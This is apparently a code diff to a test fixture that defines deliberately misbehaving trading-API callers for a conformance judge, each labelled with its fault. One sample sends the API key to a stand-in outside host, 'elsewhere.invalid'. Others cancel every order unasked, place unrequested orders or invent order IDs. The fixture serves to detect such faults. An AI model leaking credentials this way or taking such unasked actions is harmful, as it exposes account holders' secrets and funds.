@@ -1,7 +1,7 @@
-import type { Caller } from '../../../src/conformance/caller/judge-caller.js';
+import type { Caller, CallerWorld } from '../../../src/conformance/caller/judge-caller.js';
 import type { CallerVerdict } from '../../../src/conformance/caller/problem.js';
 import type { Word } from '../../../src/conformance/caller/intent.js';
-import { createBot, type Failure, type Habits, OPEN_ORDERS } from './bot.js';
+import { ask, createBot, type Failure, type Habits, OPEN_ORDERS } from './bot.js';
 
 /** A program with one bad habit, the scene that shows it, and the verdict on it there. */
 export interface BrokenCaller {
@@ -30,6 +30,15 @@ const retries = (example: Failure): Habits => ({ tries: 2, retriesOn: (failure) 
 const says = (word: Word['outcome'], example: Failure = {}): Habits => ({
   lost: (failure) => (isLike(failure, example) ? word : 'unknown'),
 });
+/** Adds calls of its own to what it was asked for. */
+const beside = (id: string, scene: string, verdict: CallerVerdict, caller: Caller): BrokenCaller => ({
+  id,
+  scene,
+  verdict,
+  caller,
+});
+const listed = async (world: CallerWorld) =>
+  Object((await ask(world, OPEN_ORDERS)) ?? []) as readonly { orderId: string }[];
 const asTable = (text: string): unknown => (text === '' ? {} : JSON.parse(text));
 
 export const BROKEN_CALLERS: readonly BrokenCaller[] = [
@@ -47,6 +56,44 @@ export const BROKEN_CALLERS: readonly BrokenCaller[] = [
   broken('retries-after-backoff', 'lost-response/503-after', 'doubled', { tries: 3, pauseMs: 1500 }),
   broken('retries-a-condition-order', 'condition-order/reset-after', 'doubled', { tries: 2 }),
   broken('retries-a-condition-order-after-503', 'condition-order/503-after', 'doubled', retries({ status: 503 })),
+  broken('retries-500', 'lost-response/500-after', 'doubled', retries({ status: 500 })),
+  broken('retries-502', 'lost-response/502-after', 'doubled', retries({ status: 502 })),
+  broken('denies-408', 'lost-response/408-after', 'denies', says('rejected', { status: 408 })),
+  broken('takes-a-failed-lookup-for-absent', 'lost-response/lookup-503', 'denies', { absentAtOnce: true }),
+  broken('takes-a-rejected-lookup-for-absent', 'lost-response/lookup-refused', 'denies', { absentAtOnce: true }),
+  broken('looks-on-after-429', 'lost-response/lookup-429', 'ignores-a-limit', { respectsLimits: false }),
+  broken('takes-a-failed-read-for-an-empty-list', 'read/status-503', 'denies', { reads: 'failures' }),
+  beside('takes-a-neighbour-for-its-own', 'not-taken/among-others', 'invents', async (world, intent) => {
+    await ask(world, intent);
+    return { outcome: 'accepted', orderId: (await listed(world))[0]!.orderId };
+  }),
+  beside('cancels-one-order-of-a-contract', 'healthy/cancel-contract', 'invents', async (world, { input }) => {
+    const [one] = await listed(world);
+    await ask(world, { do: 'cancelOrder', input: { ...input, orderId: one!.orderId } });
+    return { outcome: 'accepted' };
+  }),
+  beside('cleans-up-before-it-orders', 'healthy/create-order', 'wipes', async (world, intent) => {
+    await ask(world, { do: 'cancelAllOrders', input: {} });
+    return createBot()(world, intent);
+  }),
+  beside('orders-when-it-cancels', 'healthy/cancel-order', 'invents', async (world, intent) => {
+    const terms = { type: 'LIMIT', side: 'BUY', open: 'OPEN', positionType: 1, price: 60000, volume: 1 };
+    await ask(world, { do: 'createOrder', input: { ...OPEN_ORDERS.input, ...terms } });
+    return createBot()(world, intent);
+  }),
+  beside('says-an-id-of-its-own', 'healthy/condition-order', 'invents', async (world, intent) => ({
+    ...{ outcome: 'accepted', ...(await createBot()(world, intent)), orderId: '2006628908041292000' },
+  })),
+  beside('says-yes-and-sends-nothing', 'healthy/leverage', 'invents', async () => ({ outcome: 'accepted' })),
+  beside('logs-its-key-elsewhere', 'secrets/redirect', 'leaks', async (world, intent) => {
+    const { fetch, credentials } = world;
+    await ask(world, intent);
+    await fetch(`http://elsewhere.invalid/?key=${credentials.apiKey}`).catch(() => undefined);
+    return { outcome: 'unknown' };
+  }),
+  broken('sends-its-secret-in-base64', 'healthy/create-order', 'leaks', {
+    sent: ({ headers }, { credentials }) => void (headers['X-Auth'] = btoa(credentials.apiSecret)),
+  }),
   broken('denies-every-failure', 'lost-response/reset-after', 'denies', says('rejected')),
   broken('denies-timeouts', 'lost-response/no-response', 'denies', says('not-sent', { status: undefined })),
   broken('denies-504', 'lost-response/504-after', 'denies', says('rejected', { status: 504 })),
@@ -56,7 +103,7 @@ export const BROKEN_CALLERS: readonly BrokenCaller[] = [
   broken('denies-cancels', 'cancel-order/reset-after', 'denies', says('rejected')),
   broken('denies-a-leverage-change', 'leverage/503-after', 'denies', says('rejected')),
   broken('denies-a-bulk-cancel', 'cancel-all/reset-after', 'denies', says('not-sent')),
-  broken('takes-a-short-page-for-the-last', 'read/short-page', 'denies', { endsEarly: true }),
+  broken('takes-a-short-page-for-the-last', 'read/short-page', 'denies', { reads: 'until-short' }),
   broken('looks-among-open-orders-alone', 'lost-response/short-list', 'denies', { looksInList: true }),
   broken('doubles-a-condition-order-after-504', 'condition-order/504-after', 'doubled', retries({ status: 504 })),
   broken('denies-a-cancel-after-an-empty-response', 'cancel-order/empty-after', 'denies', says('rejected')),
@@ -68,8 +115,8 @@ export const BROKEN_CALLERS: readonly BrokenCaller[] = [
   broken('says-yes-after-503', 'not-taken/status-503', 'invents', says('accepted')),
   broken('rounds-the-id-of-its-order', 'healthy/create-order', 'invents', { parse: asTable }),
   broken('rounds-ids-of-a-list', 'read/open-orders', 'invents', { parse: asTable }),
-  broken('reads-one-page', 'read/history', 'denies', { onePage: true }),
-  broken('counts-records-twice', 'read/repeated-page', 'invents', { keepsAll: true }),
+  broken('reads-one-page', 'read/history', 'denies', { reads: 'one-page' }),
+  broken('counts-records-twice', 'read/repeated-page', 'invents', { reads: 'everything' }),
   broken('retries-429-at-once', 'rate-limit/429', 'ignores-a-limit', { tries: 2, respectsLimits: false }),
   broken('ignores-retry-after', 'rate-limit/429-retry-after', 'ignores-a-limit', {
     tries: 2,
@@ -78,14 +125,11 @@ export const BROKEN_CALLERS: readonly BrokenCaller[] = [
   }),
   broken('ignores-a-ban', 'rate-limit/418-retry-after', 'ignores-a-limit', { tries: 2, respectsLimits: false }),
   broken('ignores-410', 'rate-limit/410', 'ignores-a-limit', { tries: 2, respectsLimits: false }),
-  {
-    ...{ id: 'looks-up-at-once', scene: 'rate-limit/429-retry-after', verdict: 'ignores-a-limit' },
-    async caller(world, intent) {
-      const word = await createBot({ respectsLimits: false })(world, intent);
-      await createBot()(world, OPEN_ORDERS);
-      return word;
-    },
-  },
+  beside('looks-up-at-once', 'rate-limit/429-retry-after', 'ignores-a-limit', async (world, intent) => {
+    const word = await createBot({ respectsLimits: false })(world, intent);
+    await ask(world, OPEN_ORDERS);
+    return word;
+  }),
   broken('signs-once', 'rate-limit/429-retry-after', 'breaks-the-contract', { tries: 2, signsOnce: true }),
   broken('cancels-a-whole-contract', 'healthy/cancel-order', 'wipes', withBody({ orderId: undefined })),
   broken('cancels-with-an-empty-id', 'healthy/cancel-order', 'wipes', withBody({ orderId: '' })),
